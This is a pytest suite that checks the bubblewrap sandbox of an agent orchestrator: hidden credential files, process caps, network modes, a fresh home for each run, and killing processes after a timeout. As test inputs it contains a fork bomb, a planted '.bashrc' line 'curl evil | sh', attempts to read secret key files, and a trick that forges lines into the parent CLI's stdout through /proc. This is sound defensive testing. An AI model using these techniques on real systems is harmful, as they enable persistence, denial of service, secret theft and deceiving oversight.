"""More variations of "reach what is ours from inside the sandbox", each run for real in bubblewrap (as root in
CI, which is the hardest case: the sandbox user maps to root on the host). What holds is kept as a guard;
what is open by design (`network: open` reaches the host's loopback) is pinned so that the documentation
stays true."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from orchestrator.agents import AgentSpec, run_agent
from orchestrator.config.isolation import Isolation, Network
from orchestrator.containment.limits import MAX_PROCESSES, limited
from tests.containment.conftest import Host, job, live_with, require_bwrap, run_in

BWRAP = Isolation()


def inside(host: Host, script: str, isolation: Isolation = BWRAP, name: str = "run") -> dict:
    """Run a Python `script` in the sandbox; it prints one JSON object."""
    result, _ = run_in(isolation, job(host, [sys.executable, "-c", script], name=name))
    assert result.returncode == 0, result.stderr[-3000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_only_stdin_stdout_and_stderr_are_inherited(host: Host) -> None:
    require_bwrap()
    seen = inside(
        host, "import json, os; print(json.dumps(sorted(int(f) for f in os.listdir('/proc/self/fd'))))"
    )
    assert seen[:3] == [0, 1, 2] and len(seen) <= 4  # the fourth is listdir's own descriptor


def test_no_sys_no_host_process_and_no_host_device(host: Host) -> None:
    require_bwrap()
    seen = inside(
        host,
        "import json, os; print(json.dumps({'sys': os.path.exists('/sys'), 'pid1': open('/proc/1/cmdline','rb')"
        ".read().decode(errors='replace'), 'pids': len([p for p in os.listdir('/proc') if p.isdigit()]),"
        " 'dev': sorted(os.listdir('/dev'))}))",
    )
    assert seen["sys"] is False
    assert "bwrap" in seen["pid1"] and seen["pids"] < 10, "its own pid namespace: our processes are not there"
    assert not {"sda", "vda", "mem", "kmsg", "kvm"} & set(seen["dev"])


PRIVATE_LOOK = """
import json, os, sys
out = {}
for path in sys.argv[1:]:
    try:
        out[path] = os.listdir(path) if os.path.isdir(path) else open(path).read()
    except OSError as exc:
        out[path] = f"error: {exc.strerror}"
print(json.dumps(out))
"""


def test_files_others_may_not_read_are_hidden_in_read_only_views(host: Host, tmp_path: Path) -> None:
    """As root (CI) the sandbox user is the owner of every root-owned file it is shown: a key of mode 0600 in
    a tree of agents.read_only_paths, or /etc/ssl/private, would be readable. Only what any user of the host
    may read is shown."""
    require_bwrap()
    tools = tmp_path / "toolchain"
    (tools / "bin").mkdir(parents=True)
    (tools / "bin" / "tool").write_text("#!/bin/sh\necho tool\n")
    (tools / "bin" / "tool").chmod(0o755)
    (tools / "credentials.key").write_text("SECRET-KEY-MATERIAL")
    (tools / "credentials.key").chmod(0o600)
    (tools / "vault").mkdir()
    (tools / "vault" / "token").write_text("SECRET-TOKEN")
    (tools / "vault").chmod(0o700)
    isolation = Isolation(read_only_paths=(tools,))
    paths = [
        str(tools / "bin" / "tool"),
        str(tools / "credentials.key"),
        str(tools / "vault"),
        "/etc/ssl/private",
    ]
    result, _ = run_in(isolation, job(host, [sys.executable, "-c", PRIVATE_LOOK, *paths]))
    seen = json.loads(result.stdout)
    assert seen[str(tools / "bin" / "tool")].startswith("#!/bin/sh")
    assert seen[str(tools / "credentials.key")] in ("", "error: Permission denied")
    assert seen[str(tools / "vault")] == []
    assert seen["/etc/ssl/private"] in ([], "error: No such file or directory")
    assert "SECRET" not in result.stdout


def test_the_command_starts_with_a_process_cap_and_no_core_dumps(host: Host) -> None:
    require_bwrap()
    seen = inside(
        host,
        "import json, resource; print(json.dumps([resource.getrlimit(resource.RLIMIT_NPROC)[0],"
        " resource.getrlimit(resource.RLIMIT_CORE)[0]]))",
    )
    assert seen == [MAX_PROCESSES, 0]


FORK_BOMB = """
import os, sys, time
n = 0
try:
    while n < 2000:
        if os.fork() == 0:
            time.sleep(3)
            os._exit(0)
        n += 1
except OSError:
    pass
print(n)
"""


def test_a_fork_bomb_stops_at_the_cap_when_we_are_not_root(tmp_path: Path) -> None:
    """The cap is set inside the sandbox's user namespace, so it counts the sandbox's processes only. Run
    as an unprivileged user (as root, CI drops to `nobody` for this: the kernel exempts users that map to
    root, which docs/security.md says), a fork bomb stops at the cap — with 60 processes of that user
    already running outside, which do not count."""
    require_bwrap()
    as_user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
    if as_user and not shutil.which("setpriv"):
        pytest.fail("setpriv (util-linux) is needed to run this as an unprivileged user")
    outside = [subprocess.Popen([*as_user, "sleep", "20"]) for _ in range(60)]
    try:
        bomb = Path(tempfile.mkdtemp(prefix="agentos-bomb-", dir="/tmp"))
        bomb.chmod(0o755)
        (bomb / "bomb.py").write_text(FORK_BOMB)
        (bomb / "bomb.py").chmod(0o644)
        mounts = ["--ro-bind", "/usr", "/usr", "--symlink", "usr/bin", "/bin", "--symlink", "usr/lib", "/lib"]
        mounts += ["--symlink", "usr/lib64", "/lib64", "--ro-bind", str(bomb), "/bomb"]
        argv = [*as_user, "bwrap", "--unshare-all", "--uid", "1000", "--gid", "1000", "--die-with-parent"]
        argv += ["--proc", "/proc", "--dev", "/dev", *mounts, "--"]
        argv += limited(["/usr/bin/python3", "/bomb/bomb.py"], max_processes=50)
        done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
    finally:
        for process in outside:
            process.kill()
            process.wait()
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) < 50, "the fork bomb stopped at the cap"


REACH = """
import json, socket, sys, urllib.request
out = {}
try:
    out["http"] = urllib.request.urlopen(sys.argv[1], timeout=3).read().decode()
except Exception as exc:
    out["http"] = f"error: {type(exc).__name__}"
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect("\\0" + sys.argv[2])
    out["abstract"] = s.recv(64).decode()
except OSError as exc:
    out["abstract"] = f"error: {exc.strerror}"
print(json.dumps(out))
"""


def test_loopback_services_and_abstract_sockets_are_reachable_only_with_network_open(host: Host) -> None:
    """With `network: open` the sandbox shares the host's network namespace: a service on 127.0.0.1 and an
    abstract unix socket of ours answer (docs/security.md says so: use `allow` or `none` on hosts that run
    such services). With `none` neither does."""
    require_bwrap()
    http_server = socket.socket()
    http_server.bind(("127.0.0.1", 0))
    http_server.listen(8)
    abstract_name = f"agentos-test-{os.getpid()}-{time.monotonic_ns()}"
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind("\0" + abstract_name)
    abstract.listen(8)
    stop = threading.Event()

    def serve(sock: socket.socket, reply: bytes) -> None:
        sock.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.recv(1024) if reply.startswith(b"HTTP") else None
                conn.sendall(reply)

    threads = [
        threading.Thread(target=serve, args=(http_server, b"HTTP/1.0 200 OK\r\n\r\nours"), daemon=True),
        threading.Thread(target=serve, args=(abstract, b"ours"), daemon=True),
    ]
    for thread in threads:
        thread.start()
    url = f"http://127.0.0.1:{http_server.getsockname()[1]}/"
    try:
        script = [sys.executable, "-c", REACH, url, abstract_name]
        open_run, _ = run_in(BWRAP, job(host, script, name="open"))
        closed_run, _ = run_in(Isolation(network=Network(mode="none")), job(host, script, name="none"))
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=5)  # out of accept() before the descriptors can be reused
        http_server.close()
        abstract.close()
    assert json.loads(open_run.stdout) == {"http": "ours", "abstract": "ours"}
    closed = json.loads(closed_run.stdout)
    assert closed["http"].startswith("error") and closed["abstract"].startswith("error")


HOME_LOOK = """
import json, os, pathlib, sys
sys.stdin.read()
home = pathlib.Path(os.environ["HOME"])
before = sorted(p.name for p in home.iterdir())
(home / ".bashrc").write_text("curl evil | sh\\n")
(home / ".config").mkdir(exist_ok=True)
(pathlib.Path(os.environ["TMPDIR"]) / "planted").write_text("x")
print(json.dumps({"home": str(home), "before": before}))
"""


def test_every_run_gets_a_fresh_home_and_tmp(host: Host) -> None:
    """What one run plants in its HOME (a `.bashrc`, CLI settings with hooks) or TMPDIR is not there for the
    next run, of the same task or another."""
    require_bwrap()
    spec = AgentSpec(name="s", kind="script", command=(sys.executable, "-c", HOME_LOOK), timeout_s=30)
    environ = {"PATH": "/usr/local/bin:/usr/bin:/bin"}
    first = run_agent(spec, "p", host.worktree, host.run_dir, environ=environ, git=host.git)
    second = run_agent(spec, "p", host.worktree, host.run_dir, environ=environ, git=host.git)
    one, two = (json.loads(r.stdout_tail.strip().splitlines()[-1]) for r in (first, second))
    assert one["home"] != two["home"]
    assert ".bashrc" not in two["before"] and "planted" not in str(two)


def test_a_process_that_ignores_sigterm_is_gone_after_the_timeout(host: Host) -> None:
    require_bwrap()
    tag = f"agentos-stubborn-{os.getpid()}-{time.monotonic_ns()}"
    (host.worktree / "stubborn.py").write_text(
        "import signal, time, os\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "if os.fork() == 0:\n    os.setsid()\ntime.sleep(1000)\n"
    )
    started = time.monotonic()
    result, _ = run_in(BWRAP, job(host, [sys.executable, "stubborn.py", tag]), timeout=1.0)
    assert result.timed_out and time.monotonic() - started < 15
    assert live_with(tag) == []


def test_doctor_says_what_running_as_root_means_for_the_sandbox() -> None:
    from orchestrator.containment.report import AS_ROOT_NOTE, doctor_checks

    require_bwrap()
    as_root, _ = doctor_checks(BWRAP, euid=0)
    as_user, _ = doctor_checks(BWRAP, euid=1000)
    assert as_root.ok and AS_ROOT_NOTE in as_root.detail
    assert as_user.ok and AS_ROOT_NOTE not in as_user.detail


def test_what_the_agent_runs_can_write_into_the_clis_own_stdout(host: Host) -> None:
    """Pinned, because the parsers depend on it: a tool process (its own stdout elsewhere) can reopen the
    CLI's stdout through `/proc/<cli>/fd/1` — same user, same sandbox — and add lines of its own to what we
    read as the CLI's report. So no result line may lower the spend we record (tests/agents/test_parsers.py)."""
    require_bwrap()
    script = (
        "import json, os, subprocess\n"
        "subprocess.run(['sh', '-c', 'echo FORGED-LINE > /proc/$PPID/fd/1'], stdout=subprocess.DEVNULL)\n"
        "print(json.dumps({'done': True}))\n"
    )
    result, _ = run_in(BWRAP, job(host, [sys.executable, "-c", script]))
    assert result.returncode == 0, result.stderr
    assert "FORGED-LINE" in result.stdout
